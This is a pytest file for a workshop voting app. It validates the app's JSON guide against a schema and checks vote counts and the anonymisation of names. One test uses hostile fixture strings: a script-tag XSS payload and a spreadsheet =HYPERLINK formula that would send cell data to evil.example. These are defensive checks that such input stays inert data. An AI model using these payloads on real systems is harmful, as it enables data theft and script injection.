"""The JSON guide against its published schema (docs/guide.schema.json), and its numbers against
the guide model, so the schema is neither a formality nor out of date."""
from __future__ import annotations

import copy
import json

import jsonschema
import pytest

from workshop.domain.guide import build_guide

from .conftest import REPO, demo_state, render, replace

SCHEMA = json.loads((REPO / "docs" / "guide.schema.json").read_text(encoding="utf-8"))


def validator():
    jsonschema.Draft202012Validator.check_schema(SCHEMA)
    return jsonschema.Draft202012Validator(SCHEMA, format_checker=jsonschema.FormatChecker())


@pytest.fixture(scope="module")
def document(rendered):
    return json.loads(rendered("json"))


def test_json_guide_validates_against_the_published_schema(document, rendered):
    validator().validate(document)
    validator().validate(json.loads(rendered("json", phase="collect")))


def test_json_without_votes_validates_too(guide_app):
    document = json.loads(render(guide_app, "json", replace(demo_state(), ballots=())))
    validator().validate(document)
    assert document["votes"] is None and all(t["result"] is None for t in document["themes"])


@pytest.mark.parametrize("breakage", [
    lambda d: d["title"].pop("question"),
    lambda d: d["themes"][0]["result"].update(rank=0),
    lambda d: d["contributions"][0].update(author="Anna"),
    lambda d: d["title"].update(date="22 november"),
    lambda d: d["votes"].update(voters="10"),
])
def test_schema_rejects_a_document_that_breaks_it(document, breakage):
    broken = copy.deepcopy(document)
    breakage(broken)
    assert list(validator().iter_errors(broken))


def test_json_numbers_trace_from_ballots_to_ranks(document):
    guide = build_guide(demo_state(hostile=True))
    assert document["title"]["question"] == guide.title.question and document["title"]["draft"] is False
    assert document["votes"]["voters"] == 10 and document["votes"]["dots_cast"] == 45
    refs = {c["ref"]: c for c in document["contributions"]}
    for theme in document["themes"]:
        result = theme["result"]
        assert sum(result["dots"]) == result["score"] and len(result["dots"]) == result["voters"]
        assert sum(p["count"] for p in result["by_perspective"]) == result["score"]
        for ref in theme["contributions"]:
            assert refs[ref]["theme_id"] == theme["id"] and refs[ref]["theme_votes"] == result["score"]
    assert [t["result"]["rank"] for t in document["themes"]] == [1, 2, 3, 3, 5, 6]
    assert document["summary"] == [t["id"] for t in document["themes"][:4]]


def test_json_keeps_text_exact_and_names_out(document):
    texts = [c["text"] for c in document["contributions"]]
    assert "<script>alert('x')</script> & <b>fet</b> **inte fet** # inte rubrik" in texts
    assert '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")' in texts  # data, not a spreadsheet
    flat = json.dumps(document, ensure_ascii=False)
    for name in ("Anna", "Karim", "Leila", "Mikael", "Sara", "Henrik"):
        assert f'"{name}"' not in flat
